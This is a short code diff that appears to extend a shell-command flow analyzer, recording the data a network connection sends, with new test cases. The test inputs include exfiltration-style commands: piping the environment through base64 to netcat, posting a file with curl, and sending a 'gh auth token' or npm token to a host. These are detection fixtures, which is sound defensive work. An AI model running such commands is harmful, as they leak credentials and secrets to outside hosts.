@@ -51,7 +51,7 @@ function saidAct(act: Act): string {
     case "writes":
       return `writes ${said(act.path)} ${said(act.what)}`
     case "connects":
-      return `connects ${said(act.to)}`
+      return `connects ${said(act.to)}${act.what === undefined ? "" : ` < ${said(act.what)}`}`
     case "looks up":
       return `looks up ${said(act.name)}`
     case "replaces":
@@ -190,6 +190,9 @@ describe("flows", () => {
     ["env A=b sudo -u r nohup nice -n 3 timeout 5 sh t", ['text shell file("t")']],
     ["echo 'rm x' | ssh h", ['connects "h"']],
     ["command sh t; exec sh t", ['text shell file("t")', 'text shell file("t")']],
+    ["curl -d @f -H a:$A h", ['connects "h" < [file("f") "a:" $A]']],
+    ["env | base64 | nc h 1", ['looks up "*"', 'connects "h" < edit:base64($*)']],
+    ["wget --post-data $(gh auth token) h", ['connects "h" < program:gh("auth token")', 'writes "h" fetched("h")']],
     ["echo $NPM_TOKEN; cat ~/.npmrc", ['looks up "NPM_TOKEN"']],
     ["uncalled() { rm x; }", ['deletes "x"']],
     ["cd d; rm x; cd ..; rm y", ['deletes "d/x"', 'deletes "y"']],
